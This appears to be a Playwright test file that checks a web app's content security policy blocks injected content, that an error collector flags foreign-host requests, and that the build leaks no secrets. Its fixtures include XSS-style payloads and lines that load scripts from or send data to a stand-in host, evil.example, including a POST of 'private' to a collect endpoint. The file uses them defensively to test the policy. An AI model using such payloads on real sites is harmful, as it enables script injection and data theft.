import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from 'playwright/test'
import { leadsToSources, secretsIn } from '../test/architecture/secrets.ts'
import { welcome } from './accounts.ts'
import { expect, test } from './fixtures.ts'
import { collectErrors } from './page-errors.ts'

const home = '/id/home'

const plants: Readonly<Record<string, { readonly directive: RegExp; readonly plant: () => void }>> = {
  'an inline script': {
    directive: /^(script-src|require-trusted-types-for)/,
    plant: () => {
      const script = document.createElement('script')
      script.append('globalThis.planted = true')
      document.body.append(script)
    },
  },
  'a script of another host': {
    directive: /^(script-src|require-trusted-types-for)/,
    plant: () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/x.js'
      document.body.append(script)
    },
  },
  'an inline handler': {
    directive: /^(script-src|require-trusted-types-for)/,
    plant: () => {
      const button = document.createElement('button')
      button.setAttribute('onclick', 'globalThis.planted = true')
      document.body.append(button)
      button.click()
    },
  },
  'markup as text': {
    directive: /^(script-src|require-trusted-types-for)/,
    plant: () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="/icon.svg" onload="globalThis.planted = true">')
    },
  },
  'text as code': {
    directive: /^(script-src|require-trusted-types-for)/,
    plant: () => {
      setTimeout('globalThis.planted = true')
    },
  },
  'a picture of another host': {
    directive: /^img-src/,
    plant: () => {
      new Image().src = 'https://evil.example/pixel.png?session'
    },
  },
  'a request to another host': {
    directive: /^connect-src/,
    plant: () => {
      void fetch('https://evil.example/collect', { method: 'POST', body: 'private' }).catch(() => undefined)
    },
  },
  'a frame': {
    directive: /^(frame-src|default-src)/,
    plant: () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
    },
  },
  'a form to another host': {
    directive: /^form-action/,
    plant: () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      form.method = 'post'
      document.body.append(form)
      form.submit()
    },
  },
  'an inline style': {
    directive: /^style-src/,
    plant: () => {
      const style = document.createElement('style')
      style.textContent = 'body { display: none }'
      document.head.append(style)
    },
  },
  'another base address': {
    directive: /^base-uri/,
    plant: () => {
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
    },
  },
}

/** A violation of the policy, as reported by the event in the page. */
interface Violation {
  readonly violatedDirective: string
  readonly disposition: string
  readonly blockedURI: string
  readonly isReported: boolean
}

const fence = 'https://evil.example/fence.png'

/**
 * Runs `plant` in the page and returns the policy violations that it causes. Then requests a blocked image: once its
 * violation is reported, all earlier violations have been reported.
 */
const plantInto = async (page: Page, plant: () => void): Promise<ReadonlyArray<Violation>> => {
  await page.evaluate(() => void Object.assign(globalThis, { violations: [] }))
  await page.evaluate(plant).catch(() => undefined)
  await page.evaluate((address) => void (new Image().src = address), fence)
  const violations = () => page.evaluate<ReadonlyArray<Violation>>('globalThis.violations')
  await expect.poll(async () => (await violations()).map(({ blockedURI }) => blockedURI)).toContain(fence)
  return (await violations()).filter(({ blockedURI }) => blockedURI !== fence)
}

test('X4 the browser blocks each attempt on home to violate the content security policy', async ({
  page,
  account,
  expectedErrors,
}) => {
  expectedErrors.push(/policy|Policy|TrustedHTML|TrustedScript|foreign host: https:\/\/evil\.example/)
  await account('verified')
  await page.goto(home)
  await expect(welcome(page)).toBeVisible()
  const reached: Array<string> = []
  page.on('response', (response) => void (response.url().includes('evil.example') && reached.push(response.url())))
  await page.evaluate(() => {
    addEventListener(
      'securitypolicyviolation',
      ({ violatedDirective, disposition, blockedURI, originalPolicy }) =>
        void (Reflect.get(globalThis, 'violations') as Array<Violation>).push({
          violatedDirective,
          disposition,
          blockedURI,
          isReported: originalPolicy.includes('report-to csp'),
        }),
    )
  })
  for (const [name, { directive, plant }] of Object.entries(plants)) {
    await test.step(name, async () => {
      const violations = await plantInto(page, plant)
      expect(violations, name).not.toEqual([])
      expect(violations[0]?.violatedDirective, name).toMatch(directive)
      // Checks only that the policy names a report endpoint, since the browser sends its reports later and does not expose
      // them to the test.
      for (const violation of violations) expect(violation).toMatchObject({ disposition: 'enforce', isReported: true })
      expect(await page.evaluate('globalThis.planted'), name).toBeUndefined()
      expect(await page.evaluate(() => document.querySelector('h1')?.textContent)).toMatch(/^Welcome/)
    })
  }
  expect(reached).toEqual([])
})

test('X3 X12 `collectErrors` collects the errors, policy violations and requests to foreign hosts of a page', async ({
  context,
  account,
  baseURL,
}) => {
  await account('verified')
  const other = await context.newPage()
  const errors = await collectErrors(other, baseURL)
  await other.goto(home)
  await expect(welcome(other)).toBeVisible()
  expect(errors).toEqual([])
  await other.evaluate(() => {
    console.error('said')
    setTimeout(() => {
      throw new Error('thrown')
    })
    void Promise.reject(new Error('rejected'))
    new Image().src = 'https://evil.example/picture.png'
  })
  for (const what of [
    'console: said',
    /^not caught: Error: thrown/,
    /^not caught: Error: rejected/,
    /^console: policy violated: img-src https:\/\/evil\.example/,
  ])
    await expect.poll(() => errors).toContainEqual(expect.stringMatching(what))
  await other.goto('https://evil.example/').catch(() => undefined)
  await expect.poll(() => errors).toContainEqual('foreign host: https://evil.example')
})

// `test.fail` expects that the test fails: after the body, the fixture fails the test because of the collected error.
test.fail('X3 X12 a browser test fails if its page has logged an error', async ({ page }) => {
  const reported = page.waitForEvent('console')
  await page.goto('/authenticate/login')
  await page.evaluate(() => console.error('said'))
  await reported
})

test('L4 the build contains no secret and no source map', async () => {
  const built = join(import.meta.dirname, '../ui/dist')
  const paths = readdirSync(built, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && /\.(js|css|html|json|svg|map|txt|webmanifest)$/.test(entry.name))
    .map(({ parentPath, name }) => join(parentPath, name))
  expect(paths.length).toBeGreaterThan(50)
  for (const path of paths) {
    const text = readFileSync(path, 'utf8')
    expect(leadsToSources(path, text), path).toBe(false)
    expect(await secretsIn(path, text)).toEqual([])
  }
})
